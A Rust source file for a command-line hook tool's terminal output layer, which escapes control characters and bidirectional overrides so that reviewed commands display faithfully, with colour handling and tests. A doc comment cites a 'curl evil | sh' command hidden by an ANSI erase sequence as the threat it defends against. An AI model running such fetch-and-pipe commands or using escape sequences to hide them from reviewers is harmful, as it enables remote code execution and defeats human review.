//! The bottom of everything `hook` prints (the [`Printer`](super::Printer) writes through it):
//! [`Terminal`], the stdout and stderr a command is given (the process's, or an in-process
//! test's buffers); text for a person has its control characters escaped, and a closed stdout
//! ends the command quietly instead of panicking.
//!
//! Why escape: `hook list` is the review before `hook trust`. A command such as
//! `curl evil | sh \x1b[2K\r  [Bash] command ./lint.sh` would otherwise erase itself on a
//! terminal and show only the harmless tail. Every control character (C0, DEL, C1) and every
//! Unicode bidirectional override is shown as an escape (`\x1b`, `\u{202e}`), so what is
//! printed is what would run. Machine output (`--json`, `hook run`'s outcome, schemas, converted
//! configs) is printed exactly: JSON encoders escape control characters themselves.

use std::borrow::Cow;
use std::cell::RefCell;
use std::fmt::Write as _;
use std::io::{self, IsTerminal as _, Write};

/// Whether `c` could move the cursor, erase, recolour or reorder what a terminal shows.
fn is_hidden_control(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
        )
}

/// `text` on one line: every control character escaped, line feeds too.
pub(crate) fn one_line(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_hidden_control) {
        return Cow::Borrowed(text);
    }
    let mut escaped = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if !is_hidden_control(c) {
            escaped.push(c);
            continue;
        }
        // Writing to a String cannot fail.
        let _ = match c {
            '\n' => escaped.write_str("\\n"),
            '\r' => escaped.write_str("\\r"),
            '\t' => escaped.write_str("\\t"),
            c if (c as u32) < 0x100 => write!(escaped, "\\x{:02x}", c as u32),
            c => write!(escaped, "\\u{{{:x}}}", c as u32),
        };
    }
    Cow::Owned(escaped)
}

/// What the environment says about colour: `NO_COLOR` set and not empty turns it off
/// (<https://no-color.org>); `CLICOLOR_FORCE` set, not empty and not `0` turns it on where
/// stdout is not a terminal. `NO_COLOR` wins.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct ColourEnv {
    /// `NO_COLOR` is set and not empty.
    pub(crate) no_color: bool,
    /// `CLICOLOR_FORCE` is set, not empty and not `0`.
    pub(crate) force: bool,
}

impl ColourEnv {
    /// This process's variables.
    pub(crate) fn process() -> ColourEnv {
        ColourEnv::from_vars(
            std::env::var_os("NO_COLOR").as_deref(),
            std::env::var_os("CLICOLOR_FORCE").as_deref(),
        )
    }

    /// From the values of `NO_COLOR` and `CLICOLOR_FORCE` (`None`: unset).
    pub(crate) fn from_vars(
        no_color: Option<&std::ffi::OsStr>,
        force: Option<&std::ffi::OsStr>,
    ) -> ColourEnv {
        ColourEnv {
            no_color: no_color.is_some_and(|value| !value.is_empty()),
            force: force.is_some_and(|value| !value.is_empty() && value != "0"),
        }
    }

    /// Whether to colour a stream, `--color` being `choice`: `always` and `never` are as
    /// said; `auto` colours a terminal unless `NO_COLOR`, and anything with `CLICOLOR_FORCE`
    /// unless `NO_COLOR`.
    pub(crate) fn colour(self, choice: clap::ColorChoice, is_terminal: bool) -> bool {
        match choice {
            clap::ColorChoice::Always => true,
            clap::ColorChoice::Never => false,
            clap::ColorChoice::Auto => !self.no_color && (is_terminal || self.force),
        }
    }
}

/// Where a command's output goes: its stdout and stderr, and whether each is a terminal.
/// `main` builds it from the process's own streams ([`Terminal::process`]); the in-process
/// tests from buffers they read afterwards ([`Terminal::new`]). The [`Printer`](super::Printer)
/// owns it and is the only one writing through it.
pub(crate) struct Terminal {
    stdout: RefCell<Box<dyn Write>>,
    stderr: RefCell<Box<dyn Write>>,
    stdout_is_terminal: bool,
    stderr_is_terminal: bool,
    /// The variables that turn colour on or off.
    colour_env: ColourEnv,
    /// Whether stdout is this process's descriptor 1, which [`Terminal::close_stdout`] points
    /// at `/dev/null`.
    #[cfg_attr(not(unix), allow(dead_code))]
    stdout_is_fd1: bool,
}

impl Terminal {
    /// The process's own stdout and stderr.
    pub(crate) fn process() -> Terminal {
        Terminal {
            stdout_is_terminal: io::stdout().is_terminal(),
            stderr_is_terminal: io::stderr().is_terminal(),
            colour_env: ColourEnv::process(),
            stdout_is_fd1: true,
            ..Terminal::new(io::stdout(), io::stderr())
        }
    }

    /// `stdout` and `stderr`, neither of them a terminal, no variable about colour set.
    pub(crate) fn new(stdout: impl Write + 'static, stderr: impl Write + 'static) -> Terminal {
        Terminal {
            stdout: RefCell::new(Box::new(stdout)),
            stderr: RefCell::new(Box::new(stderr)),
            stdout_is_terminal: false,
            stderr_is_terminal: false,
            colour_env: ColourEnv::default(),
            stdout_is_fd1: false,
        }
    }

    /// This terminal with its stdout claiming to be a terminal, in the environment `env`: what
    /// an in-process test sees of a person's terminal.
    #[cfg(test)]
    pub(crate) fn claiming_a_terminal(self, env: ColourEnv) -> Terminal {
        Terminal {
            stdout_is_terminal: true,
            ..self.with_colour_env(env)
        }
    }

    /// This terminal in the environment `env` (an in-process test sets no variable).
    #[cfg(test)]
    pub(crate) fn with_colour_env(self, env: ColourEnv) -> Terminal {
        Terminal {
            colour_env: env,
            ..self
        }
    }

    /// The variables that turn colour on or off.
    pub(crate) fn colour_env(&self) -> ColourEnv {
        self.colour_env
    }

    /// Whether stdout is a terminal.
    pub(crate) fn stdout_is_terminal(&self) -> bool {
        self.stdout_is_terminal
    }

    /// Whether stderr is a terminal.
    pub(crate) fn stderr_is_terminal(&self) -> bool {
        self.stderr_is_terminal
    }

    /// Writes human text and a newline to stdout.
    pub(crate) fn print_text(&self, text: &str) {
        self.print_exact(&format!("{}\n", one_line(text)));
    }

    /// Writes human text and a newline to stderr, in one write. A closed stderr is ignored:
    /// there is nowhere left to say anything.
    pub(crate) fn eprint_text(&self, text: &str) {
        let line = format!("{}\n", one_line(text));
        let _ = self.stderr.borrow_mut().write_all(line.as_bytes());
    }

    /// Writes machine output to stderr exactly as given (a hook's own stderr, which an agent
    /// reads as the reason of a block). A closed stderr is ignored.
    pub(crate) fn eprint_exact(&self, text: &str) {
        let mut stderr = self.stderr.borrow_mut();
        let _ = stderr
            .write_all(text.as_bytes())
            .and_then(|()| stderr.flush());
    }

    /// Writes machine output (JSON, a schema, a converted config) to stdout exactly as given.
    pub(crate) fn print_exact(&self, text: &str) {
        let written = {
            let mut stdout = self.stdout.borrow_mut();
            stdout
                .write_all(text.as_bytes())
                .and_then(|()| stdout.flush())
        };
        if let Err(error) = written {
            self.closed_stdout(&error);
        }
    }

    /// Writes machine output and a newline to stdout exactly.
    pub(crate) fn println_exact(&self, text: &str) {
        self.print_exact(&format!("{text}\n"));
    }

    /// Ends stdout: flushes it, and from then on what is written to it goes nowhere. When it
    /// is the process's, file descriptor 1 is pointed at `/dev/null`, so a reader waiting for
    /// the end of our output gets it now while the process goes on (`hook run` with async
    /// hooks still running).
    pub(crate) fn close_stdout(&self) {
        let mut stdout = self.stdout.borrow_mut();
        let _ = stdout.flush();
        *stdout = Box::new(io::sink());
        #[cfg(unix)]
        if self.stdout_is_fd1
            && let Ok(null) = std::fs::OpenOptions::new().write(true).open("/dev/null")
        {
            use std::os::fd::AsRawFd as _;
            // SAFETY: both descriptors are open for the duration of the call; dup2 replaces fd 1
            // atomically and `null` is closed on drop, fd 1 keeping its own reference.
            #[allow(unsafe_code)]
            unsafe {
                libc::dup2(null.as_raw_fd(), libc::STDOUT_FILENO);
            }
        }
    }

    /// A reader of our output went away (`hook list | head -1`): stop quietly, as other Unix
    /// tools do. Any other write error is reported once on stderr.
    fn closed_stdout(&self, error: &io::Error) -> ! {
        if error.kind() != io::ErrorKind::BrokenPipe {
            let _ = writeln!(
                self.stderr.borrow_mut(),
                "error: cannot write to stdout: {error}"
            );
            std::process::exit(1);
        }
        std::process::exit(0);
    }
}

impl std::fmt::Debug for Terminal {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Terminal")
            .field("stdout_is_terminal", &self.stdout_is_terminal)
            .field("stderr_is_terminal", &self.stderr_is_terminal)
            .field("colour_env", &self.colour_env)
            .field("stdout_is_fd1", &self.stdout_is_fd1)
            .finish_non_exhaustive()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn colour_is_on_for_a_terminal_unless_no_color_says_otherwise() {
        use clap::ColorChoice::{Always, Auto, Never};
        let unset: Option<&str> = None;
        let table = [
            // (NO_COLOR, CLICOLOR_FORCE, --color, stdout is a terminal, colour)
            (unset, unset, Auto, true, true),
            (unset, unset, Auto, false, false),
            (Some("1"), unset, Auto, true, false),
            (Some("0"), unset, Auto, true, false),
            // Empty is unset (no-color.org).
            (Some(""), unset, Auto, true, true),
            (unset, Some("1"), Auto, false, true),
            (unset, Some("0"), Auto, false, false),
            (unset, Some(""), Auto, false, false),
            (Some("1"), Some("1"), Auto, false, false),
            (Some("1"), unset, Always, false, true),
            (unset, Some("1"), Never, true, false),
            (unset, unset, Never, true, false),
        ];
        for (no_color, force, choice, is_terminal, colour) in table {
            let env = ColourEnv::from_vars(
                no_color.map(std::ffi::OsStr::new),
                force.map(std::ffi::OsStr::new),
            );
            assert_eq!(
                env.colour(choice, is_terminal),
                colour,
                "NO_COLOR={no_color:?} CLICOLOR_FORCE={force:?} --color {choice:?} terminal={is_terminal}"
            );
        }
    }

    #[test]
    fn escapes_terminal_controls_and_bidi_overrides() {
        let table = [
            ("plain text", "plain text"),
            ("a\x1b[2K\rb", "a\\x1b[2K\\rb"),
            ("two\nlines", "two\\nlines"),
            ("tab\there", "tab\\there"),
            ("del\x7f", "del\\x7f"),
            ("csi\u{9b}31m", "csi\\x9b31m"),
            ("rtl\u{202e}txt", "rtl\\u{202e}txt"),
            ("isolate\u{2066}x", "isolate\\u{2066}x"),
            ("naïve ✓ 日本 a\\b", "naïve ✓ 日本 a\\b"),
        ];
        for (input, line) in table {
            assert_eq!(one_line(input), line, "one_line({input:?})");
        }
    }
}
